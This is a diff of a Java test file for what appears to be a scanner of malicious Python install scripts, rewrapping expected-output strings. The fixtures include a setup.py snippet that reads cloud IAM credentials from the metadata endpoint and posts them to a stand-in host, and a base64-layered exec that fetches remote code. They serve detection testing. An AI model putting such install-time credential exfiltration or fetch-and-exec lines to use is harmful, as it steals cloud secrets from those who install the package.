@@ -142,7 +142,8 @@ class EvaluationTest {
                 requests.post('https://drop.example/', data=role)
                 """))
         .contains(
-            "READS_SECRET http://169.254.169.254/latest/meta-data/iam/ carries CLOUD_METADATA at setup.py:2 INSTALL",
+            "READS_SECRET http://169.254.169.254/latest/meta-data/iam/ carries CLOUD_METADATA at"
+                + " setup.py:2 INSTALL",
             "SENDS https://drop.example/ carries CLOUD_METADATA, REMOTE at setup.py:3 INSTALL");
   }
 
@@ -231,7 +232,8 @@ class EvaluationTest {
               assertThat(act.trail())
                   .containsExactly(
                       "layer 1 of setup.py:2 (base64)",
-                      "text: import requests exec(\"\\n\".join([\"requests.get('https://b.example/x')\"]))",
+                      "text: import requests exec(\"\\n"
+                          + "\".join([\"requests.get('https://b.example/x')\"]))",
                       "layer 2 of setup.py:2",
                       "text: requests.get('https://b.example/x')");
             });
